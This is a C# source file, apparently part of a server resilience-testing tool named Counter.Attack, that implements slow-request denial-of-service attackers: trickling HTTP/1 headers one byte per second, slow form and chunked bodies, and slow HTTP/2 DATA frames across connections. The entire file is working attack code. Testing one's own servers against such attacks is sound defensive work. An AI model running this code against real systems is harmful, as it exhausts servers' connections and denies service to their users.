namespace Counter.Attack.Attackers;

/// <summary>Attackers that send one byte of a request each second.</summary>
internal static class SlowRequests
{
    private static readonly TimeSpan Second = TimeSpan.FromSeconds(1);
    private static readonly string[] Paths = ["/play", "/react/like?site=attack.example&page=/slow", "/sign-in"];

    public static async Task HeadersAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var stream = await target.ConnectAsync(number, cancellationToken: over);
        var request = Http1.Request(target, "/", $"X-Slow: {new string('x', 10_000)}\r\n");
        await Http1.EitherAsync(ended => stream.ReadAnswersAsync(count, ended), async ended =>
        {
            for (var i = 0; ; i++)
            {
                await stream.WriteAsync(request.AsMemory(i, 1), ended);
                await Task.Delay(Second, ended);
            }
        }, over);
    }

    public static Task FormAsync(Target target, int number, Action<string> count, CancellationToken over) =>
        SendAsync(target, number, "Content-Length: 10000", "a"u8.ToArray(), count, over);

    public static Task ChunksAsync(Target target, int number, Action<string> count, CancellationToken over) =>
        SendAsync(target, number, "Transfer-Encoding: chunked", "1\r\na\r\n"u8.ToArray(), count, over);

    public static async Task Http2FormAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var connection = await Http2Connection.OpenAsync(target, number, ushort.MaxValue, over);
        var answered = 0;
        await Http1.EitherAsync(ended => connection.ReadToEndAsync(count, ended, id => Volatile.Write(ref answered, id)), async ended =>
        {
            for (var id = 1; ; id += 2)
            {
                await connection.WriteAsync(Http2Connection.Request(target, id, Paths[number % Paths.Length], isForm: true, Http2Connection.EndHeaders), ended);
                var more = Http2Connection.Frame(Http2Connection.Data, 0, id, "a"u8);
                do
                {
                    await connection.WriteAsync(more, ended);
                    await Task.Delay(Second, ended);
                }
                while (Volatile.Read(ref answered) < id);
            }
        }, over);
    }

    private static async Task SendAsync(Target target, int number, string length, byte[] more, Action<string> count, CancellationToken over)
    {
        await using var stream = await target.ConnectAsync(number, cancellationToken: over);
        await stream.WriteAsync(Http1.Form(target, Paths[number % Paths.Length], length), over);
        await Http1.EitherAsync(ended => stream.ReadAnswersAsync(count, ended), ended => stream.RepeatAsync(more, Second, ended), over);
    }
}
